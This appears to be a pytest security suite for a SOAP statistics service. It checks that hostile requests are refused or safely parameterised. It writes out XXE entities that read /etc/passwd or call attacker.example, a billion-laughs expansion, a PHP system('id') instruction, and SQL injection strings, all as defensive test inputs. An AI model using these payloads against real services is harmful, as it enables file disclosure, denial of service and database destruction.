"""Hostile requests are refused before or at parsing with Client.InvalidXML, quickly.

Each case goes through the whole WSGI application, in-process: HTTP 500, a
SOAP 1.1 Fault with ``Client.InvalidXML`` and MNET status 503 in ``detail``.
"""

from __future__ import annotations

import logging
import time
from io import BytesIO
from xml.sax.saxutils import escape

import pytest
from spyne.protocol.soap import soap11

from soap_usestats.config import Settings
from soap_usestats.web import app as web_app
from soap_usestats.web.body import MAX_DEPTH
from tests.support import HANG_SECONDS
from tests.support.wsgi import GET_SCORES, GET_STATS, SOAP_ENV, TNS, Response, envelope

ASK_ALICE = "<u:GetStats><u:targetuser>{}</u:targetuser></u:GetStats>"


def refused(response: Response, saying: str = "") -> str:
    """Assert ``response`` is the contract's InvalidXML fault whose message holds ``saying``."""
    assert response.status == 500
    assert response.headers["Content-Type"].startswith("text/xml")
    code, message, status = response.fault()
    assert (code, status) == ("Client.InvalidXML", 503)
    assert saying in message, message
    assert "Traceback" not in message and "<string>" not in message
    return message


def elapsed(call) -> tuple[Response, float]:
    started = time.perf_counter()
    response = call()
    return response, time.perf_counter() - started


def test_valid_requests_pass_the_guard_and_are_parsed_once(soap, monkeypatch):
    parsed, original = [], web_app.parse_envelope

    def parse_envelope(*args):
        parsed.append(original(*args))
        return parsed[-1]

    def spyne_parse(*args):
        raise AssertionError("Spyne parsed the body again")

    monkeypatch.setattr(web_app, "parse_envelope", parse_envelope, raising=True)
    monkeypatch.setattr(soap11, "_parse_xml_string", spyne_parse)
    for body, answer in [(GET_STATS, "GetStatsResponse"), (GET_SCORES, "GetScoresResponse")]:
        parsed.clear()
        response = soap.post(b'<?xml version="1.0" encoding="UTF-8"?>\n' + body)
        assert response.status == 200
        assert response.xml().find(f"{{{SOAP_ENV}}}Body/{{{TNS}}}{answer}") is not None
        (envelope_,) = parsed
        assert envelope_.tag == f"{{{SOAP_ENV}}}Envelope"
        assert envelope_.find(f"{{{SOAP_ENV}}}Body")[0].tag == f"{{{TNS}}}{answer[:-8]}"


@pytest.mark.parametrize("prolog", [
    "<!DOCTYPE e:Envelope>",
    '<!DOCTYPE e:Envelope SYSTEM "http://attacker.example/soap.dtd">',
    '<!DOCTYPE e:Envelope [<!ELEMENT e:Envelope ANY>]>',
], ids=["bare", "external-subset", "internal-subset"])
def test_any_doctype(soap, prolog):
    refused(soap.post(envelope(ASK_ALICE.format("alice"), prolog=prolog)), "DTD")


@pytest.mark.parametrize("entity", [
    '<!ENTITY name "alice">',
    '<!ENTITY name SYSTEM "file:///etc/passwd">',
    '<!ENTITY name SYSTEM "http://attacker.example/leak">',
    '<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;',
], ids=["internal", "external-file", "external-url", "parameter"])
def test_entities(soap, entity):
    body = envelope(ASK_ALICE.format("&name;"), prolog=f"<!DOCTYPE e:Envelope [{entity}]>")
    message = refused(soap.post(body), "DTD")
    assert "root:" not in message


def test_billion_laughs_is_refused_at_once(soap):
    levels = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    body = envelope(ASK_ALICE.format("&l9;"), prolog=f"<!DOCTYPE e:Envelope [{''.join(levels)}]>")
    response, seconds = elapsed(lambda: soap.post(body))
    refused(response, "DTD")
    assert seconds < HANG_SECONDS


def test_entity_reference_without_dtd_is_not_well_formed(soap):
    refused(soap.post(envelope(ASK_ALICE.format("&name;"))), "not well-formed")


@pytest.mark.parametrize("body", [
    envelope(ASK_ALICE.format("alice"), prolog='<?xml-stylesheet href="http://attacker.example/x"?>'),
    envelope("<u:GetStats><?php system('id'); ?><u:targetuser>alice</u:targetuser></u:GetStats>"),
    envelope(ASK_ALICE.format("alice")) + b"<?trailing?>",
], ids=["prolog", "body", "after-root"])
def test_processing_instructions(soap, body):
    refused(soap.post(body), "processing instruction")


def test_body_over_the_default_limit(soap):
    padding = b" " * (Settings().max_request_bytes + 1 - len(GET_STATS))
    stream = BytesIO(GET_STATS + padding)
    refused(soap.post(stream, CONTENT_LENGTH=str(Settings().max_request_bytes + 1)), "size limit")
    assert stream.tell() == 0, "a declared length over the limit is refused before reading"


def test_configured_limit_is_exact(make_client):
    limit = 2048
    client = make_client(max_request_bytes=limit)
    exact = GET_STATS + b" " * (limit - len(GET_STATS))
    assert client.post(exact).status == 200
    refused(client.post(exact + b" "), f"size limit of {limit} bytes")


def test_content_length_is_not_trusted(make_client):
    limit = 2048
    client = make_client(max_request_bytes=limit)
    stream = BytesIO(GET_STATS + b"<x/>" * limit)
    refused(client.post(stream, CONTENT_LENGTH=str(len(GET_STATS) - 10)), "not well-formed")
    assert stream.tell() == len(GET_STATS) - 10


def test_chunked_body_read_to_the_limit_only(make_client):
    limit = 2048
    client = make_client(max_request_bytes=limit)
    assert client.post(BytesIO(GET_STATS), **{"wsgi.input_terminated": True}).status == 200
    stream = BytesIO(GET_STATS + b" " * (10 * limit))
    refused(client.post(stream, **{"wsgi.input_terminated": True}), "size limit")
    assert stream.tell() == limit + 1


def test_body_without_length_on_an_unterminated_input_is_not_read(soap):
    stream = BytesIO(GET_STATS)
    refused(soap.post(stream), "empty")
    assert stream.tell() == 0


def test_malformed_content_length(soap):
    refused(soap.post(GET_STATS, CONTENT_LENGTH="-1"), "Content-Length")


def nested_request(levels: int) -> bytes:
    """GetStats whose targetuser holds ``levels`` nested elements, 4 + ``levels`` levels in all."""
    nested = "<u:x>" * levels + "</u:x>" * levels
    return envelope(f"<u:GetStats><u:targetuser>{nested}</u:targetuser></u:GetStats>")


def test_nesting_one_level_too_deep(soap):
    # Envelope, Body, GetStats and targetuser are 4 levels: one more than MAX_DEPTH in all.
    refused(soap.post(nested_request(MAX_DEPTH - 3)), f"deeper than {MAX_DEPTH} levels")


@pytest.mark.parametrize("levels", [300, 50_000])
def test_deep_nesting(soap, levels):
    """Refused at once. Which limit speaks first, the service's or libxml2's own (256
    levels, whose wording depends on the libxml2 release), is not the contract's business."""
    response, seconds = elapsed(lambda: soap.post(nested_request(levels)))
    refused(response)
    assert seconds < HANG_SECONDS


def test_nesting_up_to_the_limit_reaches_the_schema(soap):
    nested = "<u:x>" * (MAX_DEPTH - 4) + "</u:x>" * (MAX_DEPTH - 4)
    response = soap.post(envelope(f"<u:GetStats><u:targetuser>{nested}</u:targetuser></u:GetStats>"))
    assert response.fault()[0] == "Client.InvalidParameter"


@pytest.mark.parametrize("body, content_type, saying", [
    (envelope(ASK_ALICE.format("al@ce")).replace(b"@", b"\xff"), None, "not valid UTF-8"),
    (envelope(ASK_ALICE.format("alice")).decode().encode("utf-16"), None, "not valid UTF-8"),
    (envelope(ASK_ALICE.format("alice")).decode().encode("utf-16-le"), None, "not well-formed"),
    (envelope(ASK_ALICE.format("alice"), prolog='<?xml version="1.0" encoding="ISO-8859-1"?>'),
     None, "declared as ISO-8859-1; this service accepts UTF-8 only"),
    (envelope(ASK_ALICE.format("alice"), prolog="<?xml version='1.0' encoding='UTF-16'?>"),
     None, "UTF-8 only"),
    (GET_STATS, "text/xml; charset=iso-8859-1", "declared as iso-8859-1"),
    (GET_STATS, 'text/xml; charset="no-such-charset"', "UTF-8 only"),
    (envelope(ASK_ALICE.format("alice"), prolog='<?xml version="1.0" encoding="\x01\x7f"?>'),
     None, "declared as another encoding"),
    (GET_STATS, "text/xml; charset=\x01", "declared as another encoding"),
], ids=["invalid-utf8", "utf16-bom", "utf16-no-bom", "declared-latin1", "declared-utf16",
        "header-latin1", "header-unknown", "declared-control-characters", "header-control-characters"])
def test_utf8_only(soap, body, content_type, saying):
    refused(soap.post(body, CONTENT_TYPE=content_type or "text/xml"), saying)


def test_utf8_with_bom_and_declared_in_any_case_is_fine(soap):
    declared = '<?xml version="1.0" encoding="utf-8"?>'
    body = b"\xef\xbb\xbf" + envelope(ASK_ALICE.format("alice"), prolog=declared)
    assert soap.post(body, CONTENT_TYPE="text/xml; charset=UTF-8").status == 200


def test_missing_content_type_is_no_internal_error(soap):
    assert soap.post(GET_STATS, CONTENT_TYPE=None).status == 200


@pytest.mark.parametrize("body, saying", [
    (b"", "empty"),
    (b" \r\n\t ", "empty"),
    (b"GetStats alice", "not well-formed XML (line 1, column 1)"),
    (b'{"targetuser": "alice"}', "not well-formed"),
    (GET_STATS[:-20], "not well-formed"),
    (GET_STATS + GET_STATS, "not well-formed"),
], ids=["empty", "blank", "text", "json", "truncated", "two-roots"])
def test_not_xml(soap, body, saying):
    refused(soap.post(body), saying)


@pytest.mark.parametrize("body, saying", [
    (ASK_ALICE.format("alice").replace("u:", "").encode(), "not a SOAP 1.1 envelope"),
    (f'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope" xmlns:u="{TNS}"><e:Body>'
     f'{ASK_ALICE.format("alice")}</e:Body></e:Envelope>'.encode(), "SOAP 1.2"),
    (f'<e:Envelope xmlns:e="{SOAP_ENV}"/>'.encode(), "a Body"),
    (f'<e:Envelope xmlns:e="{SOAP_ENV}"><e:Header/></e:Envelope>'.encode(), "a Body"),
    (f'<e:Envelope xmlns:e="{SOAP_ENV}" xmlns:u="{TNS}"><e:Body>{ASK_ALICE.format("alice")}</e:Body>'
     "<e:Header/></e:Envelope>".encode(), "a Body"),
    (f'<e:Envelope xmlns:e="{SOAP_ENV}" xmlns:u="{TNS}"><e:Body>{ASK_ALICE.format("alice")}</e:Body>'
     "<u:extra/></e:Envelope>".encode(), "nothing else"),
    (envelope(""), "exactly one operation"),
    (envelope("<!-- no operation -->"), "exactly one operation"),
    (envelope(ASK_ALICE.format("alice") * 2), "exactly one operation"),
    (envelope("<e:Fault><faultcode>e:Client</faultcode><faultstring>x</faultstring></e:Fault>"),
     "Fault"),
], ids=["no-envelope", "soap12", "empty-envelope", "header-only", "header-after-body",
        "after-body", "empty-body", "comment-only-body", "two-operations", "fault"])
def test_not_one_soap11_operation(soap, body, saying):
    refused(soap.post(body), saying)


@pytest.mark.parametrize("body", [
    envelope("<u:DropTables/>"),
    envelope('<v:GetStats xmlns:v="urn:another"><v:targetuser>alice</v:targetuser></v:GetStats>'),
], ids=["unknown-operation", "wrong-namespace"])
def test_unknown_operation(soap, body):
    refused(soap.post(body), "names no operation")


def test_guard_faults_are_logged_with_their_outcome(soap, caplog):
    with caplog.at_level(logging.INFO, logger="soap_usestats.requests"):
        soap.post(envelope(ASK_ALICE.format("alice"), prolog="<!DOCTYPE e:Envelope>"))
    (line,) = [r.getMessage() for r in caplog.records if r.name == "soap_usestats.requests"]
    assert "POST /soap" in line and "outcome=Client.InvalidXML" in line and "status=500" in line


@pytest.mark.parametrize("targetuser", [
    "alice' OR '1'='1", "alice'; DROP TABLE mdl_user; --", 'alice" OR 1=1 --', "%", "alice%", "_lice",
])
def test_values_reach_sql_as_parameters(soap, targetuser):
    response = soap.post(envelope(ASK_ALICE.format(escape(targetuser))))
    assert response.fault()[::2] == ("Client.UnknownUser", 520)
    assert soap.post(GET_STATS).status == 200


@pytest.mark.parametrize("field, value", [("shortname", "C5' OR '1'='1"), ("idnumber", "%"),
                                          ("shortname", "C_")])
def test_course_identifiers_reach_sql_as_parameters(soap, field, value):
    body = envelope(f"<u:GetScores><u:targetuser>alice</u:targetuser><u:courseidfield>{field}"
                    f"</u:courseidfield><u:courseidentifier>{value}</u:courseidentifier></u:GetScores>")
    assert soap.post(body).fault()[::2] == ("Client.UnknownCourse", 520)
    assert soap.post(GET_SCORES).status == 200
